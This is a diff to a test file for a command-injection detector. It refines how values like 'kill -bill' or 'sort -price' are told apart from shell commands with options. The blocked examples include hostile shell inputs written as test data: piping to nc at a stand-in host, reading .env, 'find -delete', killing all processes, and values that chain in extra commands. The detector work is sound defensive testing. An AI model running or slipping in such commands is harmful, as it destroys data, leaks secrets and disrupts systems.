@@ -2125,19 +2125,24 @@ describe('cmdi session 25: a command only Unix has, written in Title-case, names
   it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, ['Sales & Service', 'x;touch /tmp/x', 'Blog | Touch base']); });
 });
 
-describe('cmdi session 26: an English command opening the value before a dash glued to an English word is a search', () => {
+describe('cmdi session 26: an English command before a dash glued to an English word, the whole value, is a search', () => {
   // "kill -bill", "top -rated", "sort -price": searches and titles (ordinary set, round 2) were blocked as a command with
   // an option. The word after the dash is four or more lowercase letters with a vowel, naming no option a tool takes
-  // whole; a percentage after the dash (make -20%) is no option either
-  it.each(['kill -bill', 'top -rated', 'sort -price', 'ping -pong', 'watch -face', 'touch -screen', 'tail -light', 'open -source',
-    'date -night ideas', 'sleep -tracker', 'test -drive', 'make -20%', 'cut -10%', 'less -50% off', 'ping -pong 10.0.0.1'])('%s stays clean', (input) => {
+  // whole, and ends the value; a percentage after the dash (make -20%) is no option either
+  it.each(['kill -bill', 'top -rated', 'sort -price', 'ping -pong', 'touch -screen', 'tail -light', 'open -source', 'Top -rated!',
+    'sleep -tracker', 'test -drive', 'make -20%', 'cut -10%', 'less -50%', 'head -office.'])('%s stays clean', (input) => {
     for (const context of ['query', 'json'] as const) expect(d.scan(input, { context }).blocked, context).toBe(false);
   });
   // an option a tool takes (find's tests, PowerShell's parameters in any case), a cluster after a command that is no English
   // word, capitals, an encoded letter, a short word, a number that is no percentage, and anything chained after it
   it.each(['find -name passwd', 'find -delete', 'sleep -seconds 5', 'sleep -Seconds 5', 'kill -KILL 1', 'kill -Bill', 'ls -lart', 'netstat -tulpn',
     'echo -dot', 'make -20', 'make -20 x', 'kill -9 1', 'sort -price; id', 'kill -bill | nc evil.test 80', 'x;kill -bill',
-    'kill --bill', 'sort -help'])('%s is a command', expectCmdi);
+    'kill --bill', 'sort -help',
+    // (red team rt30, run in bash, dash and busybox: getopt reads the word as a cluster of one-letter options, so only a
+    // cluster that ends the value is let go, and only after commands none of whose options runs a command)
+    'tmux -ucid', 'tmux -lluc id', 'watch -text id', 'flock -exon /tmp/lk id', 'exec -call id', 'screen -admq id', 'find -true -delete',
+    'find -true -maxdepth 0 -exec id ;', 'docker -linfo run --rm alpine id', 'kill -kill -1', 'kill -kill 1234', 'cat -vets .env',
+    'shuf -eeeo /tmp/x y', 'sort -ruso out /tmp/in', 'date -night ideas', 'ping -pong 10.0.0.1', 'kill -bill.sh', 'less -50% x'])('%s is a command', expectCmdi);
   it('reads the word as written: an encoded letter is no search', () => { expect(d.scan('kill+-b%69ll', { context: 'query' }).blocked).toBe(true); });
   it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, ['kill -bill', 'make -20%', 'make -20', 'sort -price; id', 'kill -KILL 1']); });
 });
